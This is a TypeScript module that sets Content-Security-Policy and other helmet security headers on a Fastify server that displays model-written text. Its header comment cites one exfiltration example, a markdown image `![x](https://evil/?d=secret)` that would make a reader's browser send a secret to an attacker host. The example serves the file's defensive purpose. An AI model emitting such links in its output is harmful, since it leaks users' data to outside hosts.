import fastifyHelmet from '@fastify/helmet';
import type { FastifyInstance } from 'fastify';

/*
 * Security headers on every answer, through helmet. The Content-Security-Policy lets the page load
 * scripts, styles, fonts, workers and images only from its own origin (images also as data: and
 * blob: URLs), talk only to its own origin (`connect-src 'self'` covers the WebSocket on the same
 * host and port in Chromium and Firefox), and never be framed, so text a model writes cannot make a
 * reader's browser call another host (`![x](https://evil/?d=secret)`), and the page cannot be
 * clickjacked. The built page has no inline script or style, so nothing needs 'unsafe-inline'.
 *
 * Left out on purpose: `upgrade-insecure-requests` (a local server speaks plain http, and would break)
 * and HSTS (a TLS proxy in front knows its domains better; it should set it).
 */
export async function securityHeaders(app: FastifyInstance): Promise<void> {
  await app.register(fastifyHelmet, {
    contentSecurityPolicy: {
      useDefaults: false,
      directives: {
        defaultSrc: ["'self'"],
        scriptSrc: ["'self'"],
        scriptSrcAttr: ["'none'"],
        styleSrc: ["'self'"],
        imgSrc: ["'self'", 'data:', 'blob:'],
        fontSrc: ["'self'", 'data:'],
        connectSrc: ["'self'"],
        workerSrc: ["'self'"],
        objectSrc: ["'none'"],
        baseUri: ["'self'"],
        formAction: ["'self'"],
        frameAncestors: ["'none'"],
      },
    },
    strictTransportSecurity: false,
    xFrameOptions: { action: 'deny' },
    // Not no-referrer: with it, Chromium sends `Origin: null` on same-origin POSTs (Fetch spec),
    // which the Origin check refuses. same-origin sends nothing to other origins either.
    referrerPolicy: { policy: 'same-origin' },
    crossOriginResourcePolicy: { policy: 'same-origin' },
    crossOriginOpenerPolicy: { policy: 'same-origin' },
  });
}
